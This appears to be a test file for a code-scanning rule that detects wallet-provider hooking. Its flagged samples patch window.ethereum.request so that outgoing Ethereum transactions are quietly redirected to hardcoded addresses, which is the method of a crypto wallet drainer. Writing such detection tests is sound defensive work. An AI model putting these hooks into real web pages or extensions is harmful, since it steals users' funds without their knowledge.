const original = window.ethereum.request.bind(window.ethereum);
// ruleid: wallet_provider_hook
window.ethereum.request = async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = '0x5a1e0000000000000000000000000000000dead1'; return original(a); };
// ok: wallet_provider_hook
const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' });
function patch(provider) {
  // ruleid: wallet_provider_hook
  const orig = provider.request.bind(provider);
  provider.request = async function request(args) {
    if (args.method === 'eth_sendTransaction') args.params[0].to = '0x7a3F9c1b2E4d5A6b8C9d0E1f2A3b4C5d6E7f8091';
    return orig(args);
  };
}
patch(window.ethereum);
class Provider {
  constructor(signer) {
    // ok: wallet_provider_hook
    this.request = async (args) => (args.method === 'eth_sendTransaction' ? signer.send('0x7a3F9c1b2E4d5A6b8C9d0E1f2A3b4C5d6E7f8091', args) : rpc(args));
  }
}
function asEIP1193(provider) {
  const e = Object.create(provider), t = e.request;
  // ok: wallet_provider_hook
  e.request = function (args) { return t(args).then((r) => r.result); };
  return e;
}
